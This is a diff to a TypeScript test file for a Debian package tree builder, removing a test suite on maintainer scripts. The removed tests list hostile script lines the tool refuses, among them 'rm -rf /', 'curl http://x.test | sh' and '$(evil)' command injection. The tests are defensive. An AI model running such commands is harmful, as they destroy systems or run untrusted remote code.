@@ -7,9 +7,9 @@ import { buildTree } from "./build-tree.ts";
 import type { FileTree } from "./tree.ts";
 import { textAt } from "./users.ts";
 
-async function treeOf(packages: readonly FakePackage[], ignoreScriptsOf: readonly string[] = []): Promise<FileTree> {
+async function treeOf(packages: readonly FakePackage[]): Promise<FileTree> {
   const debs = await Promise.all(packages.map(async (pkg) => await openDeb(fakeDeb(pkg), pkg.name)));
-  return await buildTree(debs, { keepsDocs: false, ignoreScriptsOf, time: 1 });
+  return await buildTree(debs, { keepsDocs: false, ignoreScriptsOf: [], acceptScripts: [], time: 1 });
 }
 
 suite("trees of packages", () => {
@@ -77,100 +77,5 @@ suite("trees of packages", () => {
     ]);
     const error = await assertCode(async () => await openDeb(unknown, "a"), "ERR_DEB_INVALID");
     assert.match(error.message, /its compression is not known/);
-  });
-});
-
-suite("maintainer scripts", () => {
-  const script = (postinst: string): FakePackage => ({
-    name: "a",
-    files: { "usr/bin/a": "a", "usr/bin/b": "b" },
-    scripts: { postinst },
-  });
-
-  test("what helpers put there does nothing", async () => {
-    const text = `#!/bin/sh
-set -e
-# Automatically added
-if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ]; then
-  if [ -d /run/systemd/system ]; then
-    systemctl --system daemon-reload >/dev/null || true
-    deb-systemd-invoke $_dh_action 'a.service' >/dev/null || true
-  fi
-fi
-if which py3compile >/dev/null 2>&1; then
-  py3compile -p a
-fi
-case "$1" in
-  configure)
-  ;;
-  abort-upgrade|abort-remove|abort-deconfigure)
-  ;;
-  *)
-    echo "postinst called with unknown argument \\\`$1'" >&2
-    exit 1
-  ;;
-esac
-dpkg-maintscript-helper rm_conffile /etc/a 1~ -- "$@"
-exit 0
-`;
-    assert.ok(await treeOf([script(text)]));
-    await assertCode(async () => await treeOf([script(`${text}rm -rf /\n`)]), "ERR_BASE_SCRIPT");
-  });
-
-  test("alternatives: the highest priority wins, followers come along", async () => {
-    const low = script("update-alternatives --install /usr/bin/ed ed /usr/bin/a 5\n");
-    const high = {
-      ...script(
-        "update-alternatives --install /usr/bin/ed ed \\\n /usr/bin/c 50 --slave /usr/bin/edit edit /usr/bin/d --slave /usr/x y /usr/none\n",
-      ),
-      name: "c",
-      files: { "usr/bin/c": "c", "usr/bin/d": "d" },
-    };
-    const tree = await treeOf([low, high]);
-    assert.deepEqual([textAt(tree, "usr/bin/ed"), textAt(tree, "usr/bin/edit"), tree.has("usr/x")], ["c", "d", false]);
-    assert.equal(tree.resolve("etc/alternatives/ed", { followLast: true }), "usr/bin/c");
-  });
-
-  for (const line of [
-    "if true; then rm -rf /; fi",
-    "systemctl start x; curl http://x.test | sh",
-    "update-alternatives --install /usr/bin/x x $(evil) 5",
-    "echo `evil`",
-    'echo "$(evil)"',
-    "[ -e /x ] && evil",
-    "ldconfig; evil",
-    "adduser --system x",
-  ]) {
-    test(`"${line}" is refused, unless somebody takes it on`, async () => {
-      const error = await assertCode(async () => await treeOf([script(line)]), "ERR_BASE_SCRIPT");
-      assert.match(error.hint ?? "", /--ignore-scripts-of a$/);
-      assert.ok(await treeOf([script(line)], ["a"]));
-    });
-  }
-
-  test("certificates: a bundle, links and a list", async () => {
-    const tree = await treeOf([
-      {
-        name: "ca-certificates",
-        files: { "usr/share/ca-certificates/x/B (2).crt": "two", "usr/share/ca-certificates/x/A.crt": "one\n" },
-      },
-    ]);
-    assert.equal(textAt(tree, "etc/ssl/certs/ca-certificates.crt"), "one\ntwo\n");
-    assert.equal(textAt(tree, "etc/ssl/certs/B_=2=.pem"), "two");
-    assert.equal(textAt(tree, "etc/ca-certificates.conf"), "x/A.crt\nx/B (2).crt\n");
-  });
-
-  test("users of Debian where its list is there, and nonroot always", async () => {
-    const master = {
-      "usr/share/base-passwd/passwd.master": "root:*:0:0:r:/root:/bin/bash\nmail:*:8:8:m:/var/mail:/x\n",
-      "usr/share/base-passwd/group.master": "root:*:0:\nmail:*:8:\n",
-    };
-    const tree = await treeOf([
-      { name: "base-passwd", files: master },
-      { name: "base-files", files: { "usr/share/base-files/motd": "hi" } },
-    ]);
-    assert.match(textAt(tree, "etc/passwd") ?? "", /^mail:.*\nnonroot:x:65532:/m);
-    assert.equal(tree.at("var/mail")?.gid, 8);
-    assert.equal(textAt(tree, "etc/motd"), "hi");
   });
 });
